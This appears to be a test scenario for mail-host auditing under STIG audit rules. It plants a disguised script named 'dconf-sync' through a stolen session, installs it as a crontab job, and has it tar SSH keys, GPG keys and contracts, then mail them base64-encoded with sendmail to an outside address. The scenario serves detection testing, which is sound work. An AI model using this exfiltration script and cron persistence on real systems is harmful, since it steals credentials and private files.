title="A nightly crontab line mails keys and papers with sendmail -t (STIG rules)"
what="A script in intern's ~/.local/bin, put there in a stolen session, and a crontab line: at night it packs .ssh, .gnupg and contracts, writes the message by hand and gives it to sendmail -t for an outside address. Two nights. The host has the STIG rule set only: privileged programs such as crontab and postdrop, deletions, refused opens. By day intern and clerk send letters."
host=mx1.example.org user=intern daemons="cron sshd" audit_rules=audit-privileged.rules
shift_plan="day0:10h set:20m n1:1d n2:1d"
setup() { documents; mkdir -p /home/intern/.gnupg; echo key > /home/intern/.gnupg/k; chown -R intern: /home/intern/.gnupg; chmod 700 /home/intern/.gnupg; }
act() {
  phase day0; small_talk 4
  ssh_as intern <<'L'
echo "minutes" | mail -s "Minutes" clerk@example.org
cp contracts/c1.txt draft.txt
rm draft.txt
echo "the draft" | mutt -s "Draft" -a contracts/c2.txt -- partner3@example.net
L
  phase set
  ssh_run intern 'mkdir -p .local/bin; cat > .local/bin/dconf-sync <<"E"
#!/bin/sh
t=$(mktemp); tar -C "$HOME" -czf "$t" .ssh .gnupg contracts
{ printf "From: intern@example.org\nTo: noreply.sync@example.com\nSubject: sync %s\nMIME-Version: 1.0\nContent-Type: application/octet-stream; name=s\nContent-Transfer-Encoding: base64\n\n" "$(date +%j)"; base64 "$t"; } | /usr/sbin/sendmail -t -i
rm -f "$t"
E
chmod 755 .local/bin/dconf-sync; echo "* * * * * \$HOME/.local/bin/dconf-sync" | crontab -'
  small_talk 1
  phase n1; small_talk 1; wait_log_count 'to=<noreply.sync@example.com>.*status=sent' 1 75; small_talk 2
  phase n2; small_talk 1; wait_log_count 'to=<noreply.sync@example.com>.*status=sent' 2 75; small_talk 2; sleep 1
}
truth() {
  exec_step set 'crontab -' 'a job is set'
  exec_step hand-over 'postdrop' 'a message is handed over'
  mail_step sent 'to=<noreply.sync@example.com>.*status=sent' 'and leaves'
}
